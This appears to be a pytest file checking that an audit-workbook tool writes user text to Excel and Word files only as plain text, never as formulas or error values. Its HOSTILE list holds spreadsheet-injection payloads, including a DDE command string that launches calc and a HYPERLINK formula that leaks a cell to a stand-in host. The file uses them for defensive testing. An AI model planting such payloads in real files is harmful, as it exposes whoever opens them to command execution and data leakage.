"""No text ever becomes a formula or an error value, whoever typed it and whichever writer puts it in a file.

One list of hostile strings goes through every writer: the definition workbook, the agency
workbooks, the master skeleton, the demo returns, the merge into the master, the add-in's two
ports and the Word report. Each saved file is opened as a zip and its XML read: every
hostile string must be there as a text cell (t="inlineStr" or t="s"), exactly as typed,
and no cell may hold it as a formula (<f>) or an error (t="e").
"""

from __future__ import annotations

import dataclasses
import io
import zipfile

import pytest
from defusedxml import ElementTree as SafeET

from ehwb_excel.addin.excel_layer import XlwingsWorkbookPort
from ehwb_excel.addin.openpyxl_port import OpenpyxlWorkbookPort
from ehwb_excel.addin.port import excel_input_rows
from ehwb_excel.workbook.agency_workbook import agency_workbook
from ehwb_excel.definition.writer import definition_workbook
from ehwb_excel.demo.returns import fill_answers
from ehwb_excel.workbook.master_skeleton import master_workbook
from ehwb_excel.master.writer import save_master
from ehwb_excel.master.merge_returns import merge_returns
from ehwb_excel.audit.model import Case, Choice, ChoiceList
from ehwb_excel.merge.sheet_table import SheetTable
from ehwb_excel.workbook.style import new_workbook, put_text
from tests.audit_factory import small_audit
from tests.merge_helpers import full_answers, merge_audit, real_master, real_return

# What a user could type anywhere: formula starts, spreadsheet-injection payloads, and the
# exact text of each Excel error value (openpyxl would write those as errors).
HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "+44 121 000 0000",
    "-1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "#REF!",
    "#DIV/0!",
    "#NULL!",
    "#VALUE!",
    "#NAME?",
    "#NUM!",
)
# Case references become sheet names: only the hostile strings a sheet name can take.
SHEET_NAMES = ("=1+1", "+1", "-1", "@SUM(A1)", "#REF!")
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


# -- reading the saved XML -----------------------------------------------------------------------

def saved_cells(data: bytes) -> list[tuple[str, str, str | None, str]]:
    """(part, type, formula, text) of every cell of every worksheet in a saved package."""
    cells = []
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        names = package.namelist()
        shared = []
        if "xl/sharedStrings.xml" in names:
            shared = ["".join(t.text or "" for t in si.iter(f"{MAIN}t"))
                      for si in SafeET.fromstring(package.read("xl/sharedStrings.xml")).iter(f"{MAIN}si")]
        for name in names:
            if not name.startswith("xl/worksheets/") or not name.endswith(".xml"):
                continue
            for cell in SafeET.fromstring(package.read(name)).iter(f"{MAIN}c"):
                kind = cell.get("t", "n")
                formula = cell.find(f"{MAIN}f")
                value = cell.find(f"{MAIN}v")
                if kind == "inlineStr":
                    text = "".join(t.text or "" for t in cell.iter(f"{MAIN}t"))
                elif kind == "s" and value is not None:
                    text = shared[int(value.text)]
                else:
                    text = value.text if value is not None else ""
                cells.append((name, kind, None if formula is None else formula.text or "", text))
    return cells


def assert_only_text(data: bytes, expected: tuple[str, ...] = HOSTILE) -> None:
    """Every expected string is a text cell as typed; none is a formula, no cell is an error."""
    cells = saved_cells(data)
    errors = [(part, text) for part, kind, _, text in cells if kind == "e"]
    assert errors == [], f"error cells: {errors}"
    formulas = {"=" + formula for _, _, formula, _ in cells if formula is not None}
    typed_as_formulas = [h for h in HOSTILE if h in formulas or h.lstrip("\t\r") in formulas]
    assert typed_as_formulas == [], f"written as formulas: {typed_as_formulas}"
    texts = {text.replace("\r\n", "\r") for _, kind, formula, text in cells if kind in ("s", "inlineStr") and formula is None}
    missing = [h for h in expected if h not in texts and h.replace("\r", "\n") not in texts]
    assert missing == [], f"not stored as text: {missing}"


def _texts(values, n: int):
    """`n` hostile strings, cycling."""
    return [values[i % len(values)] for i in range(n)]


def hostile_audit():
    """small_audit() with hostile text in every field a coordinator types."""
    audit = small_audit()
    texts = iter(_texts(HOSTILE, 200))
    questions = tuple(dataclasses.replace(q, text=next(texts), guidance=next(texts)) for q in audit.questions)
    sections = tuple(dataclasses.replace(s, title=next(texts), description=next(texts)) for s in audit.sections)
    agencies = tuple(dataclasses.replace(a, name=next(texts), contact=next(texts)) for a in audit.agencies)
    extra_cases = tuple(Case(name, ("SCT",), summary=next(texts)) for name in SHEET_NAMES)
    settings = dataclasses.replace(audit.settings, theme=next(texts), partnership=next(texts), period=next(texts),
                                   coordinator=next(texts), protective_marking="OFFICIAL-SENSITIVE")
    notes = ChoiceList("notes", tuple(Choice(value) for value in HOSTILE if value[0] not in "\t\r"))
    return dataclasses.replace(audit, questions=questions, sections=sections, agencies=agencies, settings=settings,
                               cases=audit.cases + extra_cases, choice_lists=audit.choice_lists + (notes,))


def _saved(workbook) -> bytes:
    stream = io.BytesIO()
    workbook.save(stream)
    return stream.getvalue()


# -- the writers ------------------------------------------------------------------------------------

def test_put_text_stores_every_hostile_string_as_text():
    workbook = new_workbook()
    for row, text in enumerate(HOSTILE, start=1):
        put_text(workbook.active.cell(row=row, column=1), text)
    assert_only_text(_saved(workbook))


def test_definition_workbook():
    assert_only_text(_saved(definition_workbook(hostile_audit())))


def test_agency_workbook():
    audit = hostile_audit()
    # the SCT workbook shows its own name, every question, section, guidance and the hostile cases
    data = _saved(agency_workbook(audit, "SCT"))
    shown = {audit.agency("SCT").name, *SHEET_NAMES, *(q.text for q in audit.questions),
             *(s.title for s in audit.sections), *(v for v in audit.choice_list("notes").values)}
    assert_only_text(data, tuple(sorted(shown)))


def test_master_skeleton():
    audit = hostile_audit()
    assert_only_text(_saved(master_workbook(audit)), SHEET_NAMES + tuple(a.code for a in audit.agencies))


def test_demo_returns_write_answers_as_text(tmp_path):
    path = tmp_path / "SCT.xlsx"
    agency_workbook(small_audit(), "SCT").save(path)
    answers = {("Case A", "self_harm_detail"): HOSTILE[0], ("Case B", "self_harm_detail"): HOSTILE[1]}
    comments = {(case, q): text for (case, q), text in zip(
        [(c, q.id) for c in ("Case A", "Case B") for q in small_audit().questions if q.asked_per.value == "case"], HOSTILE[2:])}
    fill_answers(path, answers, comments=comments)
    assert_only_text(path.read_bytes(), HOSTILE[: 2 + len(comments)])


def test_the_merge_writes_returned_text_into_the_master_as_text(tmp_path):
    returns = tmp_path / "returns"
    questions = [q.id for q in merge_audit().questions if q.asked_per.value == "case"]
    pairs = [(case, q) for case in ("Case A", "Case B") for q in questions]
    comments = dict(zip(pairs, HOSTILE))
    answers = {**full_answers("SCT"), ("Case A", "voice_notes"): HOSTILE[-1], (None, "role"): HOSTILE[-2]}
    real_return(returns, "SCT", answers, comments=comments)
    master = real_master(tmp_path / "master.xlsx")
    save_master(master, merge_returns(returns, master), backup=False)
    # the reader trims white space around a comment, so "\t=1+1" arrives as "=1+1": still text
    assert_only_text(master.read_bytes(), tuple(c.strip() for c in comments.values()) + (HOSTILE[-1], HOSTILE[-2]))


def test_the_addin_openpyxl_port_writes_text_as_text(tmp_path):
    path = tmp_path / "master.xlsx"
    new_workbook().save(path)
    port = OpenpyxlWorkbookPort(path)
    port.write_sheet(SheetTable("Responses", ("Answer",), [(text,) for text in HOSTILE]))
    port.save()
    assert_only_text(path.read_bytes())


class _Range:
    """Just enough of an xlwings Range to record what the port assigns."""

    def __init__(self, written: list):
        self.written = written
        self.font = type("Font", (), {})()

    def resize(self, *_):
        return self

    def offset(self, *_):
        return self

    @property
    def value(self):
        return None

    @value.setter
    def value(self, values):
        self.written.append(values)


class _Sheet:
    def __init__(self, name: str, written: list):
        self.name, self.written, self.tables = name, written, []

    def clear_contents(self):
        pass

    def range(self, *_):
        return _Range(self.written)


def test_the_addin_excel_port_gives_excel_every_text_with_a_leading_apostrophe():
    # Excel parses a value assigned to Range.Value as if typed: "=..." runs, "#N/A" is an error,
    # "-1" a number; a leading apostrophe keeps the text as text and is not part of the value.
    written: list = []
    sheet = _Sheet("Responses", written)
    book = type("Book", (), {"sheets": type("Sheets", (list,), {"__getitem__": lambda self, key: sheet if key == "Responses" else list.__getitem__(self, key)})([sheet])})()
    XlwingsWorkbookPort(book).write_sheet(SheetTable("Responses", ("Answer",), [(text,) for text in HOSTILE]))
    assert written == [excel_input_rows(SheetTable("Responses", ("Answer",), [(text,) for text in HOSTILE]))]
    assert [row[0] for row in written[0]] == ["'Answer", *("'" + text for text in HOSTILE)]


def test_the_report_quotes_returned_text_without_fields_or_links(tmp_path):
    from ehwb_excel.report.document import build_report
    from ehwb_excel.report.report_input import NumberedText, Response
    from tests.report_helpers import sample_input

    responses = tuple(Response("Case A", "CAMHS", "voice", "voice_strengths", text, comment=text) for text in HOSTILE)
    data = sample_input(responses=sample_input().responses + responses,
                        headlines=tuple(NumberedText(str(n), text) for n, text in enumerate(HOSTILE, start=1)))
    document, _ = build_report(data)
    path = tmp_path / "report.docx"
    document.save(path)
    with zipfile.ZipFile(path) as package:
        xml = {name: package.read(name).decode("utf-8") for name in package.namelist() if name.endswith(".xml")}
    body = xml["word/document.xml"]
    assert "w:fldSimple" not in body and "w:hyperlink" not in body and "DDE" not in body
    root = SafeET.fromstring(body.encode())
    w = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    instructions = {(t.text or "").strip().split(" ")[0] for t in root.iter(f"{w}instrText")}
    assert instructions <= {"TOC", "PAGE", "NUMPAGES"}  # only the report's own fields
    texts = "\n".join(t.text or "" for t in root.iter(f"{w}t"))
    quoted = [text for text in HOSTILE if text.strip("\t\r") in texts]
    assert len(quoted) >= len(HOSTILE) - 2  # the report quotes them (tab and CR are layout in Word)
    rels = xml.get("word/_rels/document.xml.rels", "")
    assert "example.invalid" not in rels and 'TargetMode="External"' not in rels


@pytest.mark.parametrize("text", HOSTILE)
def test_each_hostile_string_reads_back_as_the_same_text(tmp_path, text):
    """The merge's own reader sees what was typed: no formula result, no error value."""
    from ehwb_excel.returns.reader import read_return
    from tests.returns_helpers import filled_return

    answers = {("Case B", "self_harm"): "Yes", ("Case B", "self_harm_detail"): text}
    found = read_return(filled_return(tmp_path, answers), small_audit())
    read = {(a.case, a.question_id): a.value for a in found.answers}
    assert read[("Case B", "self_harm_detail")] in (text, text.replace("\r", "\n"))
